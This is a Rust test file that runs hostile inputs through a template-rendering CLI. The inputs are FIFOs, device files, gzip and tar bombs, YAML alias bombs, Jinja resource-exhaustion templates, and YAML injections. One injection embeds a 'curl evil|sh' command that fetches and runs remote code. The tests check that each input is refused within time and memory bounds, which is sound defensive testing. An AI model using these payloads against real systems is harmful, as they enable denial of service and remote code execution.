//! The hostile-input run of issue #10: every hostile case of the issue, in one workspace, through the real
//! binary. Per case: exit code 1 (0 where the case is legitimate), never a signal; done within 10 s (the child
//! is killed otherwise); the child's peak resident set under `PEAK_RSS_BOUND_MB` (from `wait4`, per child);
//! the workspace outside the case's `--out` unchanged (a failed case may change nothing at all); stderr in our
//! message style (`error: …`) with no crate internals. Prints a table (case, exit, ms, peak MB).
//!
//! Linux records a child's peak from its memory before `exec` too (the spawning process's, ~8 MB here), so the
//! workspace is built by streaming (no bomb is held in memory) and the measured peak is an upper bound.

mod common;

use std::collections::BTreeMap;
use std::fs;
use std::hash::{DefaultHasher, Hash, Hasher};
use std::io::{Read, Write};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{copy_dir, gz, mkfifo, samples, tar_header, temp_dir, LEAKS};

/// A child running longer than this is a hang: it is killed and the case fails.
const GUARD: Duration = Duration::from_secs(10);
/// The documented memory bound of one `render` or `check` (README, "What render and check read").
const PEAK_RSS_BOUND_MB: u64 = 512;

/// Words that must never reach a user, besides `common::LEAKS`: Rust internals and foreign error texts.
const INTERNALS: &[&str] = &[
    "from_str",
    "panicked",
    "RUST_BACKTRACE",
    "std::",
    "core::",
    "alloc::",
    "minijinja::",
    "serde",
    "saphyr",
    "Error {",
    "Error(",
    "kind:",
    "Utf8Error",
    "ParseIntError",
    "Os {",
    "Some(",
    "None",
    "unwrap",
];

const SCHEMA: &str = "schema:\n  format:\n    openapi: \"3.0.0\"\n  environment_input_type: \"In\"\n  types:\n    In:\n      type: object\n      properties:\n        name:\n          type: string\n          default: ok\n";
const MANIFEST: &str = "infrastructure:\n  templates:\n    - file: \"cloudformation.yaml\"\n      rendering_engine: jinja\n      template_language: cloudformation\n";
const HEAD: &str = "Description: {{ environment.inputs.name | tojson }}\n";
const RESOURCE: &str = "Resources:\n  Topic:\n    Type: AWS::SNS::Topic\n";

const CIDR_INJECTION: &str = "x'\n      Injected: yes\n      Foo: '10.0.0.0/16";
const IMAGE_INJECTION: &str = "nginx'\n          Command: ['sh','-c','curl evil|sh']\n          Foo: 'x";

struct Case {
    name: String,
    args: Vec<String>,
    /// 0 for a legitimate case, 1 otherwise.
    want: i32,
    /// The case's `--out`, relative to the workspace; may change only when the case succeeds.
    out: Option<String>,
    /// Words the first `error: ` line must hold (why the case failed), when set.
    says: Option<&'static str>,
}

impl Case {
    fn says(mut self, words: &'static str) -> Case {
        self.says = Some(words);
        self
    }
}

fn case(name: &str, want: i32, args: &[&str]) -> Case {
    let args: Vec<String> = args.iter().map(ToString::to_string).collect();
    let out = args.iter().position(|a| a == "--out").map(|i| args[i + 1].clone());
    Case {
        name: name.to_string(),
        args,
        want,
        out,
        says: None,
    }
}

/// Everything about a workspace entry that a run could change, without opening anything but small regular
/// files: FIFOs and devices are described by their type, large (sparse) files by size and times.
fn digest(root: &Path, skip: Option<&Path>) -> BTreeMap<PathBuf, u64> {
    fn walk(root: &Path, dir: &Path, skip: Option<&Path>, out: &mut BTreeMap<PathBuf, u64>) {
        let mut names: Vec<_> = fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
        names.sort();
        for path in names {
            let rel = path.strip_prefix(root).unwrap().to_path_buf();
            if skip.is_some_and(|s| rel == s) {
                continue;
            }
            let meta = fs::symlink_metadata(&path).unwrap();
            let ft = meta.file_type();
            let mut h = DefaultHasher::new();
            // A folder's own times change when a run adds and removes its lock file beside `--out`: its
            // entries are what count.
            (meta.mode(), meta.ino()).hash(&mut h);
            if ft.is_dir() {
                out.insert(rel, h.finish());
                walk(root, &path, skip, out);
                continue;
            }
            (meta.len(), meta.mtime(), meta.mtime_nsec()).hash(&mut h);
            if ft.is_file() && meta.len() <= 1 << 20 {
                fs::read(&path).unwrap().hash(&mut h);
            } else if ft.is_symlink() {
                fs::read_link(&path).unwrap().hash(&mut h);
            } else {
                (ft.is_fifo(), ft.is_char_device(), ft.is_block_device(), ft.is_socket()).hash(&mut h);
            }
            out.insert(rel, h.finish());
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, skip, &mut out);
    out
}

struct Outcome {
    status: Result<i32, i32>,
    elapsed: Duration,
    peak_mb: u64,
    stderr: String,
}

/// Run the binary in `cwd`, reaping it with `wait4` for its own peak resident set; SIGKILL after `GUARD`.
// The child is reaped by `libc::wait4` (for its rusage), which clippy does not see.
#[allow(clippy::zombie_processes)]
fn run(cwd: &Path, args: &[String]) -> Outcome {
    let start = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_proton-synth"))
        .args(args)
        .current_dir(cwd)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let drain = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            let _ = pipe.read_to_end(&mut bytes);
            String::from_utf8_lossy(&bytes).into_owned()
        })
    };
    let _stdout = drain(Box::new(child.stdout.take().unwrap()));
    let stderr = drain(Box::new(child.stderr.take().unwrap()));
    let pid = child.id() as libc::pid_t;
    let mut status = 0;
    // SAFETY: a zeroed rusage is a valid value; wait4 writes into it.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    loop {
        // SAFETY: `pid` is our unreaped child; `status` and `usage` are valid for writes.
        let rc = unsafe { libc::wait4(pid, &mut status, libc::WNOHANG, &mut usage) };
        assert!(rc >= 0, "wait4 failed");
        if rc == pid {
            break;
        }
        if start.elapsed() > GUARD {
            // SAFETY: signalling and reaping our own child.
            unsafe {
                libc::kill(pid, libc::SIGKILL);
                libc::wait4(pid, &mut status, 0, &mut usage);
            }
            panic!("proton-synth {args:?} ran longer than {GUARD:?} (a hang): killed");
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    let elapsed = start.elapsed();
    let status = if libc::WIFEXITED(status) {
        Ok(libc::WEXITSTATUS(status))
    } else {
        Err(libc::WTERMSIG(status))
    };
    Outcome {
        status,
        elapsed,
        // ru_maxrss is in KiB on Linux.
        peak_mb: (usage.ru_maxrss.max(0) as u64).div_ceil(1024),
        stderr: stderr.join().unwrap(),
    }
}

/// A gzip file written as it is produced.
fn gz_stream(out: &Path, produce: impl FnOnce(&mut dyn Write)) {
    let mut enc = flate2::write::GzEncoder::new(fs::File::create(out).unwrap(), flate2::Compression::fast());
    produce(&mut enc);
    enc.finish().unwrap();
}

fn write(path: &Path, text: impl AsRef<[u8]>) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

/// The hostile workspace: sample bundles and specs, a user folder, a file, a FIFO, bombs.
fn workspace(ws: &Path) -> Vec<Case> {
    let mut cases = Vec::new();
    copy_dir(&samples().join("environment"), &ws.join("env"));
    copy_dir(&samples().join("service"), &ws.join("svc"));
    copy_dir(&samples().join("specs"), &ws.join("specs"));
    write(&ws.join("mine/thesis.txt"), "three years of work\n");
    write(&ws.join("note.txt"), "a file\n");
    mkfifo(&ws.join("pipe"));
    let (env, spec) = ("env", "specs/env-spec.yaml");

    // `--out` where it must not go; then where it may.
    for (name, out, says) in [
        ("out at the bundle", "env", "env: contains the input env"),
        (
            "out at the spec's folder",
            "specs",
            "specs: contains the input specs/env-spec.yaml",
        ),
        (
            "out at a user folder",
            "mine",
            "mine: is a folder proton-synth did not write",
        ),
        ("out at a file", "note.txt", "note.txt: is a file, not a folder"),
        ("out at .", ".", ".: is the current folder"),
        (
            "out inside the bundle",
            "env/infrastructure/x",
            "lies inside the input env",
        ),
    ] {
        cases.push(case(name, 1, &["render", env, "--spec", spec, "--out", out]).says(says));
    }
    cases.push(
        case(
            "out at a bundle, forced",
            1,
            &["render", env, "--spec", spec, "--out", "env", "--force"],
        )
        .says("env: contains the input env"),
    );
    cases.push(case(
        "render the sample",
        0,
        &["render", env, "--spec", spec, "--out", "rendered"],
    ));
    cases.push(case(
        "render again into our folder",
        0,
        &["render", env, "--spec", spec, "--out", "rendered"],
    ));
    cases.push(case(
        "out at a user folder, forced",
        0,
        &["render", env, "--spec", spec, "--out", "mine", "--force"],
    ));

    // FIFOs.
    cases.push(case("FIFO as bundle", 1, &["check", "pipe"]).says("the bundle is a FIFO"));
    cases.push(case("FIFO as spec", 1, &["render", env, "--spec", "pipe", "--out", "o"]).says("the spec is a FIFO"));
    cases.push(
        case(
            "FIFO as context",
            1,
            &["render", env, "--spec", spec, "--context", "pipe", "--out", "o"],
        )
        .says("the context file is a FIFO"),
    );
    cases.push(
        case(
            "FIFO as outputs file",
            1,
            &[
                "render",
                env,
                "--spec",
                spec,
                "--env-outputs",
                "Beta=pipe",
                "--out",
                "o",
            ],
        )
        .says("the outputs file is a FIFO"),
    );
    copy_dir(&samples().join("environment"), &ws.join("fifo-extra"));
    mkfifo(&ws.join("fifo-extra/infrastructure/notes.fifo"));
    cases.push(case(
        "FIFO beside the templates (skipped)",
        0,
        &["render", "fifo-extra", "--spec", spec, "--out", "o"],
    ));
    copy_dir(&samples().join("environment"), &ws.join("fifo-template"));
    fs::remove_file(ws.join("fifo-template/infrastructure/cloudformation.yaml")).unwrap();
    mkfifo(&ws.join("fifo-template/infrastructure/cloudformation.yaml"));
    cases.push(case("FIFO as the template", 1, &["check", "fifo-template"]).says("it is a FIFO (named pipe)"));
    cases.push(
        case(
            "FIFO as the template, render",
            1,
            &["render", "fifo-template", "--spec", spec, "--out", "o"],
        )
        .says("it is a FIFO (named pipe)"),
    );

    // /dev/zero.
    cases.push(case("/dev/zero as bundle", 1, &["check", "/dev/zero"]).says("the bundle is a device"));
    cases.push(
        case(
            "/dev/zero as spec",
            1,
            &["render", env, "--spec", "/dev/zero", "--out", "o"],
        )
        .says("the spec is a device"),
    );
    cases.push(
        case(
            "/dev/zero as context",
            1,
            &["render", env, "--spec", spec, "--context", "/dev/zero", "--out", "o"],
        )
        .says("the context file is a device"),
    );
    cases.push(
        case(
            "/dev/zero as outputs file",
            1,
            &[
                "render",
                env,
                "--spec",
                spec,
                "--env-outputs",
                "Beta=/dev/zero",
                "--out",
                "o",
            ],
        )
        .says("the outputs file is a device"),
    );

    // Sizes and archives.
    copy_dir(&samples().join("environment"), &ws.join("sparse"));
    fs::File::create(ws.join("sparse/infrastructure/big.bin"))
        .unwrap()
        .set_len(2 << 30)
        .unwrap();
    cases.push(
        case("2 GiB sparse file in a bundle", 1, &["check", "sparse"])
            .says("more than 64 MiB (this one is 2147483648 bytes)"),
    );
    cases.push(
        case(
            "2 GiB sparse file, render",
            1,
            &["render", "sparse", "--spec", spec, "--out", "o"],
        )
        .says("more than 64 MiB (this one is 2147483648 bytes)"),
    );
    fs::File::create(ws.join("big-spec.yaml"))
        .unwrap()
        .set_len(3 << 30)
        .unwrap();
    cases.push(
        case(
            "3 GiB sparse spec",
            1,
            &["render", env, "--spec", "big-spec.yaml", "--out", "o"],
        )
        .says("the spec is 3221225472 bytes"),
    );
    // A gzip bomb: 256 MiB of zeros in one entry (compresses to ~250 KB), streamed so that this process stays
    // small (a child's recorded peak starts from its parent's at `exec`).
    gz_stream(&ws.join("gzip-bomb.tar.gz"), |w| {
        w.write_all(&tar_header("infrastructure/cloudformation.yaml", 256 << 20))
            .unwrap();
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..257 {
            w.write_all(&zeros).unwrap();
        }
    });
    cases.push(case("gzip bomb", 1, &["check", "gzip-bomb.tar.gz"]).says("more than 64 MiB"));
    // A tar bomb: 100,000 small entries.
    gz_stream(&ws.join("tar-bomb.tar.gz"), |w| {
        for i in 0..100_000 {
            w.write_all(&tar_header(&format!("infrastructure/f{i}.yaml"), 1))
                .unwrap();
            let mut block = [0u8; 512];
            block[0] = b'x';
            w.write_all(&block).unwrap();
        }
        w.write_all(&[0u8; 1024]).unwrap();
    });
    cases.push(case("tar bomb (100,000 entries)", 1, &["check", "tar-bomb.tar.gz"]));
    let mut blocks = tar_header("schema/schema.yaml", 4 << 30);
    blocks.extend([0u8; 1024]);
    gz(&blocks, &ws.join("lying-4g.tar.gz"));
    cases
        .push(case("tar header claiming 4 GiB", 1, &["check", "lying-4g.tar.gz"]).says("this one is 4294967296 bytes"));
    let mut blocks = tar_header("schema/schema.yaml", 100_000);
    blocks.extend(b"schema: {}");
    gz(&blocks, &ws.join("lying-short.tar.gz"));
    cases.push(case(
        "tar entry shorter than its header",
        1,
        &["check", "lying-short.tar.gz"],
    ));
    write(&ws.join("not-gzip.tar.gz"), b"\x1f\x8b\x08\x00garbage");
    cases.push(case("gzip header, garbage after", 1, &["check", "not-gzip.tar.gz"]));

    // Alias and anchor bombs in a spec (a billion laughs).
    let mut bomb = String::from("proton: EnvironmentSpec\nspec:\n  vpc_cidr: \"10.0.0.0/16\"\n  lol:\n    a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..10 {
        let p = format!("*a{}", i - 1);
        bomb += &format!("    a{i}: &a{i} [{}]\n", [p.as_str(); 10].join(", "));
    }
    write(&ws.join("alias-bomb.yaml"), &bomb);
    cases.push(
        case(
            "alias bomb in a spec",
            1,
            &["render", env, "--spec", "alias-bomb.yaml", "--out", "o"],
        )
        .says("the document has more than 250000 values"),
    );
    let deep = format!(
        "proton: EnvironmentSpec\nspec:\n  vpc_cidr: {}{}\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    write(&ws.join("deep-spec.yaml"), deep);
    cases.push(
        case(
            "100,000 nested lists in a spec",
            1,
            &["render", env, "--spec", "deep-spec.yaml", "--out", "o"],
        )
        .says("nested more than"),
    );

    // Template bombs: check passes (nothing can be known without running them), render stops them.
    write(&ws.join("jinja-spec.yaml"), "proton: EnvironmentSpec\nspec: {}\n");
    // `says`: what the render's (and a failing check's) first error holds.
    let mut jinja = |name: &str, body: &str, check: i32, says: &'static str| {
        let dir = format!("jinja/{}", name.replace(' ', "-"));
        write(&ws.join(&dir).join("schema/schema.yaml"), SCHEMA);
        write(&ws.join(&dir).join("infrastructure/manifest.yaml"), MANIFEST);
        write(
            &ws.join(&dir).join("infrastructure/cloudformation.yaml"),
            format!("{HEAD}{body}\n{RESOURCE}"),
        );
        cases.push(case(&format!("{name}, check"), check, &["check", &dir]).says(says));
        let out = format!("{dir}-out");
        cases.push(
            case(
                name,
                1,
                &[
                    "render",
                    &dir,
                    "--spec",
                    "jinja-spec.yaml",
                    "--out",
                    &out,
                    "--environment-name",
                    "Beta",
                ],
            )
            .says(says),
        );
    };
    const STOPPED: &str = "cloudformation.yaml:2: rendering environment.yaml failed: ";
    jinja(
        "loop 10^5 x 10^5",
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        0,
        STOPPED,
    );
    jinja(
        "string doubled 40 times",
        "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
        0,
        STOPPED,
    );
    jinja("indent(2000000000)", "{{ 'a\\nb' | indent(2000000000) }}", 0, STOPPED);
    jinja("'x' * 10**12", "{{ 'x' * 10**12 }}", 0, STOPPED);
    jinja(
        "deep recursion",
        "{% macro r(n) %}{{ r(n + 1) }}{% endmacro %}{{ r(0) }}",
        0,
        STOPPED,
    );
    // The three ways check and render once disagreed: now both refuse.
    jinja(
        "macro called before definition",
        "{% macro a() %}{{ b() }}{% endmacro %}\n# {{ a() }}\n{% macro b() %}y{% endmacro %}",
        1,
        "macro `a` calls macro `b`, which is defined only on line 4",
    );
    jinja(
        "include ignore missing",
        "{% include 'x.yaml' ignore missing %}",
        1,
        "`{% include %}` is not supported",
    );
    jinja("debug()", "# {{ debug() }}", 1, "`debug(…)`: unknown function");

    // Both injections against AWS's samples.
    let ctx = common::root()
        .join("tests/fixtures/local/sample-context.yaml")
        .display()
        .to_string();
    let cidr = format!(
        "proton: EnvironmentSpec\nspec:\n  vpc_cidr: {}\n",
        serde_json::to_string(CIDR_INJECTION).unwrap()
    );
    write(&ws.join("inject-cidr.yaml"), cidr);
    cases.push(
        case(
            "vpc_cidr injection",
            1,
            &[
                "render",
                env,
                "--spec",
                "inject-cidr.yaml",
                "--context",
                &ctx,
                "--out",
                "o",
            ],
        )
        .says("vpc_cidr"),
    );
    let image = format!(
        "proton: ServiceSpec\npipeline: {{}}\ninstances:\n  - name: frontend-dev\n    environment: Beta\n    spec:\n      image: {}\n",
        serde_json::to_string(IMAGE_INJECTION).unwrap()
    );
    write(&ws.join("inject-image.yaml"), image);
    cases.push(
        case(
            "image injection",
            1,
            &[
                "render",
                "svc",
                "--spec",
                "inject-image.yaml",
                "--context",
                &ctx,
                "--out",
                "o",
            ],
        )
        .says("image"),
    );
    // Names Proton guaranteed valid (`[0-9A-Za-z]+[0-9A-Za-z_-]*`, 1-100): refused as such, from the flags
    // and from the context file, instead of rendering `/proton///` or blaming the template's quoting.
    for (name, flag, value) in [
        ("empty environment name", "--environment-name", ""),
        (
            "environment name injection",
            "--environment-name",
            "Beta'\n      Injected: yes",
        ),
        ("service name with a slash", "--service-name", "a/b"),
    ] {
        cases.push(
            case(
                name,
                1,
                &[
                    "render",
                    env,
                    "--spec",
                    spec,
                    "--context",
                    &ctx,
                    flag,
                    value,
                    "--out",
                    "o",
                ],
            )
            .says("is not a valid name"),
        );
    }
    write(
        &ws.join("bad-name-context.yaml"),
        "environment:\n  name: \"x y\"\nservice:\n  name: \"\"\n",
    );
    cases.push(
        case(
            "names in the context file",
            1,
            &[
                "render",
                env,
                "--spec",
                spec,
                "--context",
                "bad-name-context.yaml",
                "--out",
                "o",
            ],
        )
        .says("bad-name-context.yaml:2: environment.name: \"x y\" is not a valid name"),
    );
    cases
}

/// `error: …`/`warning: …`/`note: …` lines, and the two summary lines: `BUNDLE: N error(s), M warning(s)` (check)
/// and `render failed with N error(s); OUT was not changed`.
fn our_style(line: &str) -> bool {
    line.starts_with("error: ")
        || line.starts_with("warning: ")
        || line.starts_with("note: ")
        || line.contains(": ok, ") && line.ends_with(" warning(s)")
        || (line.starts_with("render failed with ") && line.ends_with(" was not changed"))
        || line.ends_with(" error(s), 0 warning(s)")
        || line.contains(" error(s), ") && line.ends_with(" warning(s)")
}

#[test]
fn the_hostile_input_run_ends_cleanly_bounded_and_touches_nothing_outside_out() {
    let ws = temp_dir("hostile-run");
    let cases = workspace(&ws);
    let mut table = vec![format!("{:<44} {:>4} {:>6} {:>7}", "case", "exit", "ms", "peak MB")];
    let mut failures = Vec::new();
    for c in &cases {
        let before = digest(&ws, None);
        let o = run(&ws, &c.args);
        let exit = match o.status {
            Ok(code) => code.to_string(),
            Err(signal) => format!("sig{signal}"),
        };
        table.push(format!(
            "{:<44} {:>4} {:>6} {:>7}",
            c.name,
            exit,
            o.elapsed.as_millis(),
            o.peak_mb
        ));
        let mut fail = |what: String| {
            failures.push(format!(
                "{}: {what}\n  args: {:?}\n  stderr: {}",
                c.name, c.args, o.stderr
            ))
        };
        if o.status != Ok(c.want) {
            fail(format!("exit {exit}, expected {}", c.want));
        }
        if o.peak_mb >= PEAK_RSS_BOUND_MB {
            fail(format!("peak RSS {} MB, bound {PEAK_RSS_BOUND_MB} MB", o.peak_mb));
        }
        // A failed case changes nothing at all; a legitimate one only its `--out`.
        let skip = if c.want == 0 {
            c.out.as_deref().map(Path::new)
        } else {
            None
        };
        let mut after = digest(&ws, skip);
        let mut before = before;
        if let Some(s) = skip {
            before.retain(|p, _| !p.starts_with(s));
            after.retain(|p, _| !p.starts_with(s));
        }
        if before != after {
            let changed: Vec<_> = before
                .keys()
                .chain(after.keys())
                .filter(|k| before.get(*k) != after.get(*k))
                .collect();
            fail(format!("the workspace changed outside --out: {changed:?}"));
        }
        match o.stderr.lines().find(|l| l.starts_with("error: ")) {
            None if c.want == 1 => fail("no `error: ` line on stderr".into()),
            Some(line) if c.says.is_some_and(|w| !line.contains(w)) => {
                fail(format!("the first error does not say {:?}", c.says.unwrap_or_default()))
            }
            _ => {}
        }
        for line in o.stderr.lines().filter(|l| !our_style(l)) {
            fail(format!("a line not in our message style: {line:?}"));
        }
        let internals: Vec<_> = INTERNALS
            .iter()
            .chain(LEAKS)
            .filter(|w| o.stderr.contains(*w))
            .collect();
        if !internals.is_empty() {
            fail(format!("crate internals in stderr: {internals:?}"));
        }
    }
    println!("{}", table.join("\n"));
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    fs::remove_dir_all(&ws).unwrap();
}
